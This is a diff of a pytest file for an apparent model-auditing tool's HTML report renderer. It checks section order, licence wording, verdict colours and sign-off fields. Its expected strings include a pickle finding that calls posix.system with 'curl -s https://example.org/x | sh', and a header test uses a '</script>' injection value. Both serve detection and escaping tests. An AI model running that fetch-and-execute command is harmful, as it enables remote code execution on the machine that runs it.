@@ -9,16 +9,19 @@ from pathlib import Path
 import pytest
 
 import modelaudit.reports
+from modelaudit.model.license import ConclusionState, Obligation
 from modelaudit.model.report import AuditReport, Decision, Verdict
+from modelaudit.reports import wording
 from modelaudit.reports.html import FIRST_FINDINGS, render_html
+from modelaudit.reports.inventory import tree_digest
 from modelaudit.reports.json_report import parse_report, render_json, report_digest
 
 VOID = frozenset({"meta", "input", "br"})
 ELEMENTS = VOID | {
     *("html", "head", "title", "style", "body", "main", "header", "section", "nav", "div", "article"),
-    *("h1", "h2", "h3", "h4", "p", "ul", "ol", "li", "dl", "dt", "dd", "details", "summary"),
+    *("h1", "h2", "h3", "h4", "h5", "p", "ul", "ol", "li", "dl", "dt", "dd", "details", "summary"),
     *("a", "code", "small", "strong", "em", "span", "q", "time", "svg", "path", "circle"),
-    *("table", "caption", "thead", "tbody", "tr", "th", "td", "label", "fieldset", "legend", "textarea"),
+    *("table", "caption", "thead", "tbody", "tr", "th", "td", "label", "fieldset", "legend"),
 }
 CSS = Path(modelaudit.reports.__file__).parent / "templates" / "report.css"
 
@@ -136,11 +139,11 @@ FACTS = (
     "The claims contradict each other.",
     "Both cannot hold for the same weights, so neither is relied on.",
     "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT",
-    "Inherited from the model it descends from.",
-    "Not on record",
-    "Give everyone who receives the model a copy of the licence. Include license text; section 4(a)",
-    "Terms read on 2026-11-20.",
-    "These terms were not verified against the text.",
+    "Named by the author as what this model was made from.",
+    "Not followed: its licence may bind you too",
+    "What you must do Give everyone who receives the model a copy of the licence. Section 4(a). Done where",
+    "Our summary of that licence (read on 2026-11-20).",
+    "second-hand: its terms were not verified against the text.",
     "Loading the file calls a function that can run commands",
     "Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
     "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
@@ -154,7 +157,7 @@ FACTS = (
     "No opinion. It did not examine these files, so it neither agrees nor disagrees.",
     "It is not installed for this version of Python.",
     "7 files, 5,125,779,458 bytes in all",
-    "4.13 GB 4,130,000,000 bytes",
+    "4,130,000,000 bytes No digest was computed.",
     "a" * 64,
     "source states SHA-256 " + "c" * 64,
     "DIFFERENT from what the source states.",
@@ -174,11 +177,14 @@ def test_the_order_is_that_of_an_officer_who_signs(failing: AuditReport) -> None
     sections = [attributes["aria-labelledby"] for attributes in page.attributes("section") if "id" in attributes]
     assert [name.removesuffix("-title") for name in sections] == [
         "unexamined",
-        "license",
         "findings",
+        "license",
         "opinions",
-        "inventory",
+        "scope",
+        "questions",
         "signoff",
+        "inventory",
+        "glossary",
     ]
     assert page.text.index("Do not load or ship") < page.text.index("What was not examined, and why")
 
@@ -249,7 +255,76 @@ def test_a_pass_with_accepted_absences_says_so(passing: AuditReport, failing: Au
     coverage = replace(passing.coverage, artifacts=(*passing.coverage.artifacts, record))
     text = page_of(replace(passing, decision=Decision(Verdict.PASS, (), coverage))).text
     assert "it accepts the 1 part that was not examined" in text
-    assert "Every part of the model was examined" not in text
+    assert "Every file could be read" not in text
+
+
+def test_a_pass_is_green_only_where_shipping_is_too(passing: AuditReport) -> None:
+    assert '<section class="verdict pass"' in render_html(passing).decode()
+    doubtful = replace(passing, license=replace(passing.license, state=ConclusionState.UNDECLARED))
+    html = render_html(doubtful).decode()
+    assert '<section class="verdict incomplete"' in html
+    assert '<h2 id="verdict">Pass</h2>' in html
+    assert '<div class="callout open">' in html
+    text = page_of(doubtful).text
+    assert "No licence was found: no permission to ship this can be shown." in text
+
+
+def test_a_failed_model_stays_red_whatever_its_licence(failing: AuditReport, passing: AuditReport) -> None:
+    assert '<section class="verdict fail"' in render_html(replace(failing, license=passing.license)).decode()
+
+
+def test_what_is_written_into_the_sign_off_is_printed_whole(any_report: AuditReport) -> None:
+    page = page_of(any_report)
+    papers = [attributes for attributes in page.attributes("div") if "contenteditable" in attributes]
+    ids = {attributes.get("id") for _, attributes in page.elements}
+    assert len(papers) == (2 if any_report.decision.verdict is Verdict.PASS else 3)
+    assert all(attributes["aria-labelledby"] in ids for attributes in papers)
+    height = re.search(r"\.paper\.long \{ min-height: ([\d.]+)rem", page.style)
+    line = re.search(r"\.paper \{[^}]*line-height: ([\d.]+)rem[^}]*overflow: visible", page.style)
+    assert height and line and float(height[1]) >= 10 * float(line[1])
+    unbroken = re.findall(r"([^{}]*)\{ break-inside: avoid", page.style)
+    assert unbroken and not any(".signoff" in each or ".paper" in each for each in unbroken)
+
+
+def test_the_sign_off_binds_the_files(passing: AuditReport, failing: AuditReport) -> None:
+    text = page_of(passing).text
+    assert f"All files together {tree_digest(passing)} " in text
+    for field in ("ask engineering to confirm", "Intended use", "Valid until", "Second signature"):
+        assert field in text
+    assert "I decide against the verdict because" not in text
+    assert "I decide against the verdict because" in page_of(failing).text
+    assert "no number can be given" in page_of(failing).text
+
+
+def test_duties_stand_in_their_groups(failing: AuditReport) -> None:
+    text = page_of(failing).text
+    llama = text[text.index("https://www.llama.com/llama3_1/license/") :]
+    places = [llama.index(each) for each in (wording.USE_FIRST, "700 million", wording.TO_DO, "Built with Llama")]
+    assert places == sorted(places)
+    entry = replace(
+        failing.license.entries[0], obligations=(Obligation("patent-termination", "Do not sue.", "part 3"),)
+    )
+    only = page_of(replace(failing, license=replace(failing.license, entries=(entry,)))).text
+    known = only[only.index(wording.TO_KNOW) : only.index("Second opinions What other")]
+    assert known.split() == f"{wording.TO_KNOW} Do not sue. Part 3.".split()
+
+
+def test_the_header_of_each_printed_page_names_the_model(passing: AuditReport, hostile: AuditReport) -> None:
+    assert '@top-left { content: "tiny"; } @top-right { content: "Verdict: Pass"; }' in page_of(passing).style
+    evil = re.search(r'@top-left \{ content: "((?:[A-Za-z0-9 ._-]|\\[0-9a-f]{6})*)"; \}', page_of(hostile).style)
+    assert evil and evil[1].startswith("\\00003c\\00002fscript\\00003e")
+
+
+def test_what_is_never_covered_and_what_words_mean_is_on_every_page(any_report: AuditReport) -> None:
+    text = page_of(any_report).text
+    for fact in (*wording.NEVER_COVERED, *(word.capitalize() for word in wording.GLOSSARY)):
+        assert fact in text
+
+
+def test_prose_spells_the_noun_one_way() -> None:
+    for path in CSS.parent.glob("*.j2"):
+        prose = re.sub(r"\{[%{#].*?[%}#]\}|<[^>]*>", " ", path.read_text(encoding="utf-8"), flags=re.DOTALL)
+        assert "license" not in prose.lower(), path.name
 
 
 def _luminance(color: str) -> float:
